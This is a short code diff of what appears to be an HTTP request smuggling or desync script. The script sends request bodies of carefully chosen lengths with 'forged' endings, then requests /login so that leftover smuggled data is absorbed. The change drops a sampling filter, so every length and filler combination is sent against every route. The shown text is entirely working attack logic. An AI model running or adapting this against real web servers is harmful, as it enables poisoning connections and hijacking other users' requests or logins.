@@ -108,12 +108,7 @@ def send(method, path, kind, data):
 for index, (method, path, kind) in enumerate(routes):
     for length in lengths:
         for filler in fillers:
-            # Every length for the first route; the classic ones and a share of the others elsewhere.
-            if index > 0 and length not in range(8143, 8151) and (length + filler + index) % 4:
-                continue
-            if index > 0 and length in range(8144, 8150) and (length + filler + index) % 4:
-                continue
-            ending = forged[(length + filler + index) % 2]
+            ending = forged[(length + filler // 8 + index) % 2]
             send(method, path, kind, body(length, filler, ending))
             if filler % 4 == 0:
                 connection.request("GET", address.path + "/login")  # takes up what was left behind
